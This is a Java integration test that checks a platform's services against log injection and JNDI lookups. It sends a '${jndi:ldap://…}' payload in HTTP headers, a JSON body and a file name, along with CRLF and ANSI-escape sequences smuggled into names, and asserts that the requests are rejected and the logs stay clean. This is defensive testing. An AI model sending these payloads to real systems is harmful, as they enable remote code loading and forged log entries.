package io.lynceus.e2e.input;

import static org.assertj.core.api.Assertions.assertThat;

import io.lynceus.e2e.input.Caller.Part;
import io.lynceus.localstack.platform.ServiceModule;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;

/** B57: whatever somebody writes, a line of a log is one line, and nothing in it is obeyed. */
final class LogLinesIT {
  private static final String FAKE = "FAKE-LINE";

  private final Scene scene = Scene.get();

  @Test
  void nobodyWritesALineOfTheLogs() throws Exception {
    try (var elsewhere = new Listening()) {
      String jndi = "${jndi:ldap://%s/x}".formatted(elsewhere.address());
      String name = "x%0d%0a" + FAKE + "%1b[2J".replace("[", "%5B");
      String[] headers = {"User-Agent", jndi, "X-Request-Id", jndi, "Referer", jndi};
      assertThat(scene.admin().get("/projects/" + name, headers).status()).isBetween(400, 499);
      Answer gone = scene.admin().json("DELETE", "/projects/" + name, "", headers);
      assertThat(gone.status()).isBetween(400, 499);
      String body =
          "{\"name\": \"x\\r\\n%s\\u001b[2J%s\", \"classes\": [\"a\"]}".formatted(FAKE, jndi);
      scene.admin().json("POST", "/projects", body, headers).hasStatus(422);
      String file = "a\u001b[2J" + jndi + ".png";
      scene.admin().upload(scene.images(), Part.file("files", file, new byte[0])).hasStatus(400);
      assertThat(elsewhere.visits()).isZero();
    }
    for (ServiceModule service : ServiceModule.values()) {
      assertThat(lines(service))
          .as(service.module())
          .noneMatch(line -> line.startsWith(FAKE))
          .noneMatch(line -> line.chars().anyMatch(c -> c < ' ' && c != '\t'));
    }
  }

  private List<String> lines(ServiceModule service) throws IOException {
    Path log = scene.platform().state().resolve("logs").resolve(service.module() + ".log");
    return Files.readString(log).lines().toList();
  }
}
